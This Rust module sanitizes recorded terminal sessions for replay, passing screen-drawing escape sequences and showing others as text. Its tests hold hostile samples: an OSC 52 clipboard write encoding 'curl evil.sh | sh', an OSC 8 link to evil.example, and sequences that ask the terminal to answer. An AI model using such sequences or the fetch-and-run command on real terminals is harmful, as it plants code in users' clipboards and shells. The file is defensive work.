//! A recorded terminal's output, made safe to write to the auditor's own
//! terminal.
//!
//! A recording holds whatever the target's programs wrote, and a hostile
//! program (or a user who expects the session to be replayed) can write
//! sequences that act on the terminal that replays it: set its title,
//! write the clipboard (OSC 52), open hyperlinks (OSC 8), ask it to answer
//! (device status and attribute reports, window reports), which types the
//! answer into the auditor's shell. Replay keeps what draws the screen
//! (text, colours, cursor movement, erasing, scrolling, the alternate
//! screen) and shows everything else as visible text (`␛]52;…`), so the
//! auditor sees that it was there and nothing acts on it. `--raw` writes
//! the recording as it is.

/// What replay writes after a recording: attributes reset, cursor shown,
/// the main screen, the whole scroll region, the ASCII character set,
/// bracketed paste and application cursor keys off.
pub const RESET: &str = "\u{1b}[0m\u{1b}[?25h\u{1b}[?1049l\u{1b}[r\u{1b}(B\u{1b}[?2004l\u{1b}[?1l";

/// `text` for a line of output (`sessions show`): every control character
/// but newline and tab shown as text, so a recorded statement, path or
/// reason cannot act on the terminal or hide itself (a carriage return
/// would let it overwrite what came before it).
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            c if is_control(c) => show(c, &mut out),
            c => out.push(c),
        }
    }
    out
}

/// `text` with every control sequence that does more than draw the
/// screen shown as visible text.
pub fn safe(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\u{1b}' => i = escape(&chars, i, &mut out),
            '\n' | '\r' | '\t' | '\u{8}' | '\u{7}' => {
                out.push(c);
                i += 1;
            }
            c if is_control(c) => {
                show(c, &mut out);
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// C0 and C1 controls (C1 includes the one-character CSI, OSC and DCS).
fn is_control(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}')
}

/// A control character as visible text: `^X` for C0, `␛`, `<U+009B>`.
fn show(c: char, out: &mut String) {
    match c {
        '\u{1b}' => out.push('\u{241b}'),
        '\u{7f}' => out.push_str("^?"),
        c if (c as u32) < 0x20 => {
            out.push('^');
            out.push(char::from(b'@' + c as u8));
        }
        c => out.push_str(&format!("<U+{:04X}>", c as u32)),
    }
}

/// The escape sequence at `chars[start]` (an ESC): copied when it only
/// draws, else shown as text. Returns where the next character starts.
fn escape(chars: &[char], start: usize, out: &mut String) -> usize {
    let Some(&next) = chars.get(start + 1) else {
        show('\u{1b}', out);
        return start + 1;
    };
    let end = match next {
        '[' => return csi(chars, start, out),
        // Save and restore the cursor, keypad modes, index, reverse
        // index, next line, tab set, full reset.
        '7' | '8' | '=' | '>' | 'D' | 'E' | 'H' | 'M' | 'c' => start + 2,
        // Character sets: ESC ( B and the like.
        '(' | ')' | '*' | '+'
            if chars
                .get(start + 2)
                .is_some_and(char::is_ascii_alphanumeric) =>
        {
            start + 3
        }
        _ => {
            // OSC, DCS, APC, PM, SOS and anything unknown: shown as text,
            // the ESC made visible so the terminal does not act on it.
            show('\u{1b}', out);
            return start + 1;
        }
    };
    out.extend(&chars[start..end]);
    end
}

/// A CSI sequence (`ESC [ params intermediates final`): copied when its
/// final byte draws, else shown as text.
fn csi(chars: &[char], start: usize, out: &mut String) -> usize {
    let mut i = start + 2;
    while chars
        .get(i)
        .is_some_and(|c| ('\u{30}'..='\u{3f}').contains(c))
    {
        i += 1;
    }
    let params: String = chars[start + 2..i].iter().collect();
    while chars
        .get(i)
        .is_some_and(|c| ('\u{20}'..='\u{2f}').contains(c))
    {
        i += 1;
    }
    let intermediates = i - (start + 2) - params.chars().count();
    let Some(&last) = chars.get(i).filter(|c| ('\u{40}'..='\u{7e}').contains(*c)) else {
        // Unfinished: text.
        show('\u{1b}', out);
        return start + 1;
    };
    if intermediates == 0 && draws(&params, last) {
        out.extend(&chars[start..=i]);
        return i + 1;
    }
    show('\u{1b}', out);
    start + 1
}

/// Whether a CSI with `params` and final `last` only draws the screen.
fn draws(params: &str, last: char) -> bool {
    match last {
        // Colours and attributes; cursor movement and position; erase;
        // insert and delete; scroll; scroll region; tab clear.
        'm'
        | 'A'..='H'
        | 'J'
        | 'K'
        | 'L'
        | 'M'
        | 'P'
        | 'S'
        | 'T'
        | 'X'
        | '@'
        | 'd'
        | 'f'
        | 'r'
        | 'g'
        | '`'
        | 'a'
        | 'e' => {
            // Digits and separators only: a private marker turns these
            // into something else (`CSI > 4 m` sets a keyboard mode), and
            // `CSI 3 J` erases the auditor's scrollback. `CSI ? J/K` is the
            // selective erase, still drawing.
            let plain = |p: &str| {
                p.bytes()
                    .all(|b| b.is_ascii_digit() || b == b';' || b == b':')
            };
            (plain(params) && !(last == 'J' && params == "3"))
                || (matches!(last, 'J' | 'K') && params.strip_prefix('?').is_some_and(plain))
        }
        // Modes: only the screen's own (cursor shown, autowrap, the
        // alternate screen, application cursor keys, bracketed paste).
        'h' | 'l' => params.strip_prefix('?').is_some_and(|modes| {
            modes.split(';').all(|m| {
                matches!(
                    m,
                    "1" | "7" | "12" | "25" | "47" | "1047" | "1048" | "1049" | "2004"
                )
            })
        }),
        // Device status and attribute reports (`n`, `c`), window
        // operations and reports (`t`), and the rest: the terminal would
        // answer or change beyond the screen.
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn drawing_passes_and_acting_is_shown() {
        let drawn =
            "\u{1b}[1;31mred\u{1b}[0m \u{1b}[2J\u{1b}[H\u{1b}[?1049h\u{1b}[?25l\u{1b}(B\r\n";
        assert_eq!(safe(drawn), drawn);
        for acting in [
            "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}",
            "\u{1b}]0;pwned\u{1b}\\",
            "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
            "\u{1b}[6n",
            "\u{1b}[c",
            "\u{1b}[21t",
            "\u{1b}P$q\"p\u{1b}\\",
            "\u{1b}_apc\u{1b}\\",
            "\u{9b}6n",
            "\u{9d}52;c;eA==\u{7}",
        ] {
            let shown = safe(acting);
            assert!(!shown.contains('\u{1b}'), "{acting:?} -> {shown:?}");
            assert!(
                !shown.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
                "{shown:?}"
            );
        }
        assert_eq!(safe("\u{1b}]0;pwned\u{7}"), "\u{241b}]0;pwned\u{7}");
        assert_eq!(
            safe("\u{1b}[>4;2m"),
            "\u{241b}[>4;2m",
            "a keyboard mode, not a colour"
        );
        assert_eq!(safe("\u{1b}[3J"), "\u{241b}[3J", "the scrollback stays");
        assert_eq!(
            visible("select 1\r\u{1b}[2Kdrop table t\n"),
            "select 1^M\u{241b}[2Kdrop table t\n"
        );
        assert_eq!(safe("a\u{0}b\u{7f}"), "a^@b^?");
    }

    /// What `safe` lets through, re-read: every ESC starts a sequence that
    /// only draws, and no C1 control is left.
    fn only_draws(s: &str) -> bool {
        let chars: Vec<char> = s.chars().collect();
        let mut i = 0;
        while i < chars.len() {
            match chars[i] {
                '\u{1b}' => {
                    let mut copy = String::new();
                    let next = escape(&chars, i, &mut copy);
                    if copy.starts_with('\u{241b}') {
                        return false;
                    }
                    i = next;
                }
                c if ('\u{80}'..='\u{9f}').contains(&c) => return false,
                _ => i += 1,
            }
        }
        true
    }

    proptest! {
        #[test]
        fn nothing_but_drawing_reaches_the_terminal(
            s in proptest::collection::vec(
                prop_oneof![
                    Just("\u{1b}".to_string()),
                    Just("[".to_string()),
                    Just("]".to_string()),
                    Just("?".to_string()),
                    Just("\u{9b}".to_string()),
                    Just("\u{7}".to_string()),
                    "[0-9;]{0,4}",
                    "[a-zA-Z@`]",
                    any::<char>().prop_map(|c| c.to_string()),
                ],
                0..40,
            ).prop_map(|v| v.concat())
        ) {
            let shown = safe(&s);
            prop_assert!(only_draws(&shown), "{:?} -> {:?}", s, shown);
            prop_assert_eq!(safe(&shown), shown.clone(), "safe text stays as it is");
        }
    }
}
